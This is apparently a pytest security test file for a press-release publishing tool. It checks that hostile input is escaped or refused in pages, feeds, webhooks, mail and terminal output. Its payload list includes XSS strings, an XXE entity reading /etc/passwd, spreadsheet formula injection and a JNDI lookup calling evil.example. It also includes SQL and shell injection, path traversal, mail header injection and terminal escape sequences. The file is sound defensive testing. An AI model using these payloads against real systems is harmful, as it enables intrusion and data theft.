"""Hostile input is inert: whatever stands in any field comes out escaped, in its place, or is refused plainly."""

from __future__ import annotations

import email
import email.policy
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit
from xml.etree import ElementTree

import pytest
from calling import Caller, said
from hypothesis import given
from hypothesis import strategies as st
from mail_server import scripted
from office import Office, Receiver, found_office, receiving
from records import left_alone

from pressrelease.cli.app import COMMANDS
from pressrelease.system.printable import json_line, one_line, printable

#: What a terminal would obey, or what hides or turns around what a reader sees.
COMMANDING = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff\ud800-\udfff\ufff9-\ufffb]"
)

#: What is tried in every field. Those that hold a control are refused; the others are only words.
PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "title": "</title></textarea><svg onload=alert(1)>",
    "comment": "--><script>alert(1)</script><!--",
    "cdata": "]]>&<![CDATA[",
    "entity": "&lt;b&gt; &e; &#0; &#x1b;",
    "doctype": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    "scheme": "javascript:alert(1)",
    "link": "[x](javascript:alert(1)) [y](vbscript:x) [z](data:text/html,x)",
    "image": "![x](http://tracker.example/x.png)",
    "formula": '=HYPERLINK("http://evil.example","x")',
    "formula 2": "+1+cmd|' /C calc'!A0",
    "formula 3": "@SUM(1+1)*cmd|' /C calc'!A0",
    "template": "{{7*7}} ${jndi:ldap://evil.example/x} <%= 7*7 %>",
    "format": "%s%n%x {0.__class__} %(a)s",
    "sql": "'); DROP TABLE releases; --",
    "shell": "$(touch pwned) `touch pwned` ; touch pwned | touch pwned &",
    "path": "../../../etc/passwd",
    "json": '"},{"x":1}',
    "markup of terminals": "[bold red]x[/] [link=http://evil.example]y[/link]",
    "right to left": "שלום עולם",
    "wide": "日本語 🏴 é",
    "escape": "\x1b]0;owned\x07\x1b[2J",
    "c1": "\x9b2J\x9d0;owned\x9c",
    "override": "\u202eevil\u202c \u2066x\u2069",
    "separator": "a\u2028b\u2029c\u0085d",
    "headers": "x\r\nBcc: everybody@example.org\r\n\r\nbody",
    "lines": "x\nBcc: everybody@example.org",
    "nul": "x\x00y",
    "mark": "x\ufeffy",
    "backspace": "guilty\b\b\b\b\b\bx",
}
SAFE = [name for name, text in PAYLOADS.items() if not COMMANDING.search(text) and "\n" not in text]
FIELDS = ("headline", "subhead", "dateline", "author", "editor_note")
SLUGS = {name: f"r-{re.sub('[^a-z0-9]', '-', name)}" for name in PAYLOADS}


def write(office: Office, name: str) -> None:
    """A release with a payload in every field at once."""
    quoted = "".join(one if one > "\uffff" else json.dumps(one)[1:-1] for one in PAYLOADS[name]).join('""')
    keys = dict.fromkeys(FIELDS, quoted)
    keys |= {"keywords": f"[{quoted}]", "contact": f"{{name: {quoted}, phone: {quoted}, email: a@example.org}}"}
    keys |= {"attachments": f"[{{path: sheet.pdf, title: {quoted}}}, {{path: photo.png, alt: {quoted}}}]"}
    body = PAYLOADS[name].encode("utf-8", "replace").decode()
    office.write(SLUGS[name], body=f"Lead.\n\n{body}\n\n> {body}\n\n`{body}`", **keys)


@dataclass
class Published:
    """An office in which everything that was accepted has gone out."""

    office: Office
    receiver: Receiver
    refused: dict[str, str]
    said: str


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Published]:
    """Every payload scheduled, those that were accepted approved and published."""
    with receiving() as receiver:
        office = found_office(tmp_path_factory.mktemp("hostile") / "office", receiver)
        config = (
            (office.folder / "config.toml")
            .read_text()
            .replace('type = "newsroom"\n', 'type = "newsroom"\nurl = "https://news.example.org"\n')
        )
        (office.folder / "config.toml").write_text(config)
        left_alone(office.folder)
        (office.folder / "releases" / "sheet.pdf").write_bytes(b"%PDF-1.4")
        (office.folder / "releases" / "photo.png").write_bytes(b"\x89PNG\r\n\x1a\n")
        for name in PAYLOADS:
            write(office, name)
        refused, accepted = {}, []
        with pytest.MonkeyPatch.context() as patch:
            patch.chdir(office.folder)
            for name, slug in SLUGS.items():
                code, words = said(["schedule", slug])
                assert code in {0, 65}, (name, words)
                if code:
                    refused[name] = words
                else:
                    accepted.append(slug)
            told = [said(["approve", *accepted, "--as", "da"]), said(["publish-due"])]
            assert [code for code, _ in told] == [0, 0], told
            told += [said([*arguments]) for arguments in (["status", "--all"], ["journal"], ["check"], ["promises"])]
        yield Published(office, receiver, refused, "".join(words for _, words in told) + "".join(refused.values()))


def test_what_a_reader_could_not_see_is_refused_and_the_rest_is_not(published: Published) -> None:
    must = {name for name in PAYLOADS if name not in SAFE}
    assert must <= set(published.refused)
    # A body with such a link or picture is refused by the check, whatever its headline.
    assert set(published.refused) - must <= {"link", "image"}
    assert all(not COMMANDING.search(words) for words in published.refused.values())
    assert set(published.office.pages) == {SLUGS[name] for name in PAYLOADS if name not in published.refused}


def test_nothing_on_a_terminal_is_obeyed(published: Published) -> None:
    assert not COMMANDING.search(published.said)


def test_no_shell_and_no_path_was_followed(published: Published) -> None:
    root = published.office.folder.parent
    assert not list(root.rglob("pwned"))
    names = {path.name for path in (published.office.folder / "newsroom").iterdir()}
    assert all(re.fullmatch(r"[a-z0-9.-]+", name) for name in names), names


# --- The newsroom ----------------------------------------------------------------------------------------------------


class Page(HTMLParser):
    """The tags of a page with their attributes, and the words in each kind of tag."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.words: dict[str, list[str]] = {}
        self._open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))
        self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag in self._open:
            del self._open[len(self._open) - 1 - self._open[::-1].index(tag) :]

    def handle_data(self, data: str) -> None:
        if self._open:
            self.words.setdefault(self._open[-1], []).append(data)


def must_be_inert(page: Page) -> None:
    """No script, no handler, nothing fetched from elsewhere, no address but the plain ones."""
    for tag, attributes in page.tags:
        assert tag not in {"svg", "iframe", "object", "embed", "form", "input", "base", "textarea"}, tag
        assert not [name for name in attributes if name.startswith("on") or name == "srcdoc"], attributes
        if tag == "script":
            assert attributes == {"type": "application/ld+json"}
        for name in ("href", "src"):
            assert urlsplit(attributes.get(name, "").strip()).scheme.lower() not in {"javascript", "vbscript", "data"}
        if tag == "img":
            assert not urlsplit(attributes["src"]).netloc
        if tag == "meta" and attributes.get("http-equiv"):
            assert attributes["http-equiv"] == "Content-Security-Policy"


def accepted(published: Published) -> list[str]:
    return [name for name in PAYLOADS if name not in published.refused]


def test_every_page_is_inert_and_says_the_words_as_they_are(published: Published) -> None:
    room = published.office.folder / "newsroom"
    for name in accepted(published):
        html = (room / SLUGS[name] / "index.html").read_text(encoding="utf-8")
        page = Page(html)
        must_be_inert(page)
        assert "".join(page.words["h1"]) == PAYLOADS[name]
        assert PAYLOADS[name] in "".join(page.words["title"])
        for data in page.words.get("script", []):
            told = json.loads(data)
            assert told["headline"] == PAYLOADS[name]
        assert not COMMANDING.search(html.replace("\n", ""))
    for path in room.rglob("*.html"):
        must_be_inert(Page(path.read_text(encoding="utf-8")))


def test_every_feed_is_well_formed_and_says_the_words_as_they_are(published: Published) -> None:
    room = published.office.folder / "newsroom"
    titles = {PAYLOADS[name] for name in accepted(published)}
    atom = "{http://www.w3.org/2005/Atom}"
    feed = (room / "feed.atom").read_text(encoding="utf-8")
    assert "<!DOCTYPE" not in feed.split("<feed")[0]
    entries = ElementTree.fromstring(feed).findall(f"{atom}entry")
    assert {entry.findtext(f"{atom}title") for entry in entries} == titles
    for entry in entries:
        must_be_inert(Page(entry.findtext(f"{atom}content") or ""))
    for path in (*room.glob("*.xml"), *room.glob("*.rss")):
        ElementTree.fromstring(path.read_text(encoding="utf-8"))
    for path in room.glob("*.json"):
        for item in json.loads(path.read_text(encoding="utf-8")).get("items", []):
            assert item["title"] in titles
            must_be_inert(Page(item.get("content_html", "")))


def test_a_webhook_gets_the_words_as_they_are_and_inert_html(published: Published) -> None:
    names = {slug: name for name, slug in SLUGS.items()}
    assert set(published.receiver.counts) == {SLUGS[name] for name in accepted(published)}
    for arrival in published.receiver.got:
        data = json.loads(arrival.body)["data"]
        assert data["headline"] == PAYLOADS[names[arrival.slug]]
        must_be_inert(Page(data["html"]))


# --- Mail, and the formats -------------------------------------------------------------------------------------------


def test_no_field_adds_a_header_to_a_mail(published: Published, call: Caller, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(published.office.folder)
    plain = None
    for name in accepted(published):
        raw = call("proof", SLUGS[name], "--format", "eml")
        message = email.message_from_bytes(raw.encode(), policy=email.policy.default)
        assert isinstance(message, email.message.EmailMessage)
        assert message["Subject"] == PAYLOADS[name]
        assert message["Bcc"] is None
        plain = plain or message.keys()
        assert sorted(message.keys()) == sorted(plain), name
        html = message.get_body(("html",))
        assert html is not None
        must_be_inert(Page(html.get_content()))


def test_every_format_holds_the_words_in_their_place(
    published: Published, call: Caller, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(published.office.folder)
    for name in accepted(published)[::4]:
        slug = SLUGS[name]
        assert PAYLOADS[name] in json.dumps(
            json.loads(call("proof", slug, "--format", "ninjs")), ensure_ascii=False
        ).replace('\\"', '"')
        item = ElementTree.fromstring(call("proof", slug, "--format", "newsml"))
        assert PAYLOADS[name] in {element.text for element in item.iter()}
        must_be_inert(Page(call("proof", slug, "--format", "html")))


# --- What people and servers say -------------------------------------------------------------------------------------


@pytest.fixture
def office(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Office:
    made = found_office(tmp_path / "office")
    monkeypatch.chdir(made.folder)
    return made


def test_a_reason_can_not_look_like_a_line_of_ours(office: Office, call: Caller) -> None:
    office.write("names", embargo="2099-09-24T09:00:00-07:00")
    call("schedule", "names", "--yes")
    call("hold", "names", "--why", "wait\n9  da: release.approved names\r\n\x1b[1A\x9b2K\u202eok")
    for arguments in (("journal",), ("status", "names"), ("status",), ("publish-due",)):
        call(*arguments)
        assert not COMMANDING.search(call.out + call.err), arguments
        assert not re.search(r"^9  da", call.out + call.err, re.MULTILINE), arguments
    assert call.json("status", "names")["releases"][0]["reason"].endswith("wait 9 da: release.approved names [1A2Kok")


@pytest.mark.parametrize("code", [550, 451])
def test_what_a_mail_server_says_is_shown_and_not_obeyed(office: Office, call: Caller, code: int) -> None:
    words = f"{code} 5.1.1 \x1b]0;owned\x07 \x9b2J <script>alert(1)</script> \u202eevil {'x' * 3000}"
    with scripted(RCPT=words) as server:
        with (office.folder / "config.toml").open("a") as config:
            config.write(
                f'[outlets.mail]\ntype = "email"\nhost = "127.0.0.1"\nport = {server.port}\nsecurity = "none"\n'
                'from = "press@example.org"\nrecipients = ["a@example.org"]\n'
            )
        left_alone(office.folder)
        office.write("names", outlets="[mail]")
        call("schedule", "names")
        call("approve", "names")
        call("publish-due", expect=10 if code == 550 else 75)
        told = [call.out + call.err]
        for arguments in (("status", "names"), ("journal",), ("status", "--json", "names"), ("journal", "--json")):
            told.append(call(*arguments))
        for said in told:
            assert not COMMANDING.search(said)
        (delivery,) = json.loads(told[3])["releases"][0]["deliveries"]
        assert str(code) in delivery["error"]
        assert len(delivery["error"]) < 1000


@pytest.mark.parametrize(
    "printed",
    [
        "javascript:alert(1)",
        "https://x.example/\x1b[2J",
        "https://u:p@x.example/",
        "https://x.example/\u202e",
        "x" * 9000,
    ],
)
def test_an_address_that_an_outlet_gives_is_a_plain_one_or_none(office: Office, call: Caller, printed: str) -> None:
    (office.folder / "say").write_text(printed, encoding="utf-8")
    with (office.folder / "config.toml").open("a") as config:
        config.write('[outlets.program]\ntype = "command"\nargv = ["cat", "say"]\n')
    left_alone(office.folder)
    office.write("names", outlets="[program]")
    call("schedule", "names")
    call("approve", "names")
    call("publish-due")
    assert call.json("status", "names")["releases"][0]["deliveries"][0]["url"] is None


@pytest.mark.parametrize(
    "slug", ["../names", "/etc/passwd", "names/../names", "NAMES", "con", "names.md", "n\x1b[2J", "%2e%2e", ""]
)
def test_a_slug_leads_nowhere_else(office: Office, call: Caller, slug: str) -> None:
    office.write("names", embargo="2099-09-24T09:00:00-07:00")
    for command in ("schedule", "check", "approve", "status", "proof"):
        if command in COMMANDS:
            call(command, slug, expect=66)
            assert not COMMANDING.search(call.out + call.err)
            assert "root:" not in call.out + call.err


# --- The last line of defence, by itself -----------------------------------------------------------------------------

values = st.recursive(
    st.none() | st.booleans() | st.text(), lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner)
)


@given(values)
def test_json_is_one_line_that_no_terminal_obeys_and_reads_back_the_same(value: Any) -> None:
    line = json_line(value)
    assert json.loads(line) == value
    assert line.isprintable()
    line.encode("utf-8")


@given(st.text())
def test_one_line_is_one_line(text: str) -> None:
    assert not COMMANDING.search(one_line(text))
    assert len(one_line(text).splitlines()) <= 1
    assert not COMMANDING.search(printable(text))
